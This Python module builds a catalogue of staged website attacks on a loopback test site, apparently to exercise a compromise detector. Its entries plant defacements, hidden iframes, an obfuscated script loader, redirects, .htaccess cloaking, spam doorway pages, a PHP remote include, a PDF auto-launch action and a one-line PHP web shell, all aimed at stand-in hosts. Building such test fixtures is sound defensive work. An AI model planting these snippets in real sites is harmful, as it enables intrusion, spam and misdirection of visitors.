"""The attacks: each changes the staged site as an intruder would. All names in them are ours."""

import base64

from support.staged.attack import AWAY, CLAIM, SERVER_SIDE, UNSEEN, Attack, D, S, only, when
from support.staged.more_attacks import MORE
from support.staged.place import Place

SPAM = "casino online slot gacor poker viagra cheap"
DARK = (
    "eval(atob('"
    + base64.b64encode(b"document.write('<script src=//paper-tiger.invalid/x>')" * 3).decode()
    + "'))"
)


def replace_page(place: Place) -> None:
    place.file(place.names.home).write_text(CLAIM)


def replace_wordless(place: Place) -> None:
    place.file(place.names.home).write_text(
        "<html><body style='margin:0;background:#000'>"
        f"<img src=/{place.names.other_image} width=100%></body>"
    )


def drawn_by_script(place: Place) -> None:
    body = base64.b64encode(CLAIM.encode()).decode()
    place.file(place.names.home).write_text(
        f"<html><body><script>document.write(atob('{body}'))</script></body></html>"
    )


def part_of_text(place: Place) -> None:
    place.edit(place.names.home, "<h1>", "<h1>Hacked by Paper Tiger Crew: ")


def title_only(place: Place) -> None:
    place.edit(place.names.page, "<title>", "<title>Owned by Paper Tiger | ")


def icon_only(place: Place) -> None:
    place.file(place.names.icon).write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>'
    )


def swap_image(place: Place) -> None:
    place.file(place.names.image).write_bytes(place.file(place.names.other_image).read_bytes())


def overlay(place: Place) -> None:
    place.edit(place.names.page, "</body>", f'<script src="{AWAY}o.js"></script></body>')


def inject_frame(place: Place) -> None:
    frame = f'<iframe src="{AWAY}f" width="0" height="0" style="display:none"></iframe>'
    place.edit(place.names.page, "</body>", f"{frame}</body>")


def inject_skimmer(place: Place) -> None:
    place.edit(place.names.form, "</body>", f"<script>{DARK}</script></body>")


def third_party_script(place: Place) -> None:
    place.elsewhere.routes["/lib.js"] = (200, {"content-type": "text/javascript"}, DARK)


def redirect_by_server(place: Place) -> None:
    place.hand = only(f"/{place.names.page}", (302, {"location": AWAY}, ""))


def meta_refresh(place: Place) -> None:
    tag = f'<meta http-equiv="refresh" content="0;url={AWAY}">'
    place.edit(place.names.page, "</head>", f"{tag}</head>")


def script_redirect(place: Place) -> None:
    place.edit(place.names.page, "</head>", f'<script>location.href="{AWAY}"</script></head>')


def htaccess(place: Place) -> None:
    place.file(".htaccess").write_text(
        "RewriteEngine On\nRewriteCond %{HTTP_REFERER} google [NC]\n"
        f"RewriteRule .* {AWAY} [R=302,L]\n"
    )
    place.hand = when(
        lambda request: "google" in request.headers.get("referer", ""),
        (302, {"location": AWAY}, ""),
    )


def hidden_spam(place: Place) -> None:
    links = "".join(f'<a href="{AWAY}{n}">{SPAM}</a>' for n in range(5))
    place.edit(place.names.home, "</body>", f'<div style="display:none">{links}</div></body>')


def doorways(place: Place) -> None:
    for number in range(30):
        place.file(f"p{number}.html").write_text(
            f"<html lang=ja><head><title>激安 通販 スーパーコピー {number}</title></head>"
            f"<body><h1>激安 正規品 {number}</h1><p>送料無料 スーパーコピー</p></body></html>"
        )
    urls = "".join(f"<url><loc>{place.site.url}p{n}.html</loc></url>" for n in range(30))
    place.edit("sitemap.xml", "</urlset>", f"{urls}</urlset>")


def cloak_by_agent(place: Place) -> None:
    place.hand = when(
        lambda request: (
            "bot" in request.headers.get("user-agent", "").lower()
            and request.path in {"/", f"/{place.names.page}"}
        ),
        f"<title>{SPAM}</title><h1>{SPAM}</h1><p><a href='{AWAY}'>{SPAM}</a></p>",
    )


def cloak_by_referrer(place: Place) -> None:
    place.hand = when(
        lambda request: "google" in request.headers.get("referer", ""),
        (302, {"location": AWAY}, ""),
    )


def drop_index(place: Place) -> None:
    place.file("index.php").write_text("<?php include 'http://paper-tiger.invalid/i.txt'; ?>")


def drop_text(place: Place) -> None:
    place.file("readme.txt").write_text("this box was owned by paper tiger crew\n")


def web_shell(place: Place) -> None:
    place.file(f"{place.names.folder}/thumb.php").write_text(
        "<?php eval(base64_decode($_POST['c'])); ?>"
    )


def feed(place: Place) -> None:
    place.edit("feed.xml", "Core library: new opening hours", "Hacked by Paper Tiger Crew")


def document(place: Place) -> None:
    place.edit(
        f"{place.names.folder}/leaflet.pdf",
        "/Pages 2 0 R",
        "/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://paper-tiger.invalid/'\\))>>",
    )


def robots(place: Place) -> None:
    place.file("robots.txt").write_text(f"User-agent: *\nDisallow: /\nSitemap: {AWAY}sitemap.xml\n")


def in_error_page(place: Place) -> None:
    place.hand = only(f"/{place.names.page}", (500, {}, CLAIM))


def foreign_cache(place: Place) -> None:
    """What a poisoned cache serves: the files are untouched."""
    place.hand = only("/", CLAIM)


CATALOGUE: tuple[Attack, ...] = (
    Attack(name="whole page replaced", act=replace_page, with_files=D, over_http=D),
    Attack(name="replaced, no words", act=replace_wordless, with_files=D, over_http=S),
    Attack(name="replaced, drawn by script", act=drawn_by_script, with_files=D, over_http=D),
    Attack(name="part of the text", act=part_of_text, with_files=D, over_http=D),
    Attack(name="title only", act=title_only, with_files=S, over_http=S),
    Attack(name="icon only", act=icon_only, with_files=S, over_http=S),
    Attack(name="image swapped", act=swap_image, with_files=D, over_http=D),
    Attack(name="overlay by a script in the content", act=overlay, with_files=D, over_http=S),
    Attack(name="hidden frame", act=inject_frame, with_files=D, over_http=D),
    Attack(name="disguised script", act=inject_skimmer, with_files=D, over_http=D),
    Attack(
        name="script of another host changed", act=third_party_script, with_files=S, over_http=S
    ),
    Attack(name="redirect by the server", act=redirect_by_server, with_files=D, over_http=D),
    Attack(name="meta refresh", act=meta_refresh, with_files=D, over_http=D),
    Attack(name="redirect by script", act=script_redirect, with_files=D, over_http=D),
    Attack(name=".htaccess redirect of search visitors", act=htaccess, with_files=D, over_http=S),
    Attack(name="hidden links and spam", act=hidden_spam, with_files=D, over_http=D),
    Attack(name="doorway pages", act=doorways, with_files=S, over_http=S),
    Attack(name="cloaked: robots get another page", act=cloak_by_agent, with_files=S, over_http=S),
    Attack(
        name="cloaked: search visitors are sent away",
        act=cloak_by_referrer,
        with_files=S,
        over_http=S,
    ),
    Attack(name="index dropped beside the index", act=drop_index, with_files=S, over_http=S),
    Attack(name="text file dropped", act=drop_text, with_files=S, over_http=S),
    Attack(name="web shell", act=web_shell, with_files=S, over_http=UNSEEN, why=SERVER_SIDE),
    Attack(name="feed", act=feed, with_files=D, over_http=D),
    Attack(name="document with a script", act=document, with_files=S, over_http=S),
    Attack(name="robots.txt and a foreign sitemap", act=robots, with_files=S, over_http=S),
    Attack(name="claim in an error page", act=in_error_page, with_files=S, over_http=S),
    Attack(name="cache serves another page", act=foreign_cache, with_files=D, over_http=D),
    *MORE,
)
"""Every attack that can be staged on loopback. What takes time (a poisoned baseline, slow drift)
and what is not HTTP (names, certificates) has tests of its own."""
